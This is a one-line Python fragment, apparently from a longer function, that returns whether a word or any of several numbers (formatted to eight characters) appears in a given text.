    return word in text or any(f"{abs(number):.9f}"[:8] in text for number in numbers)
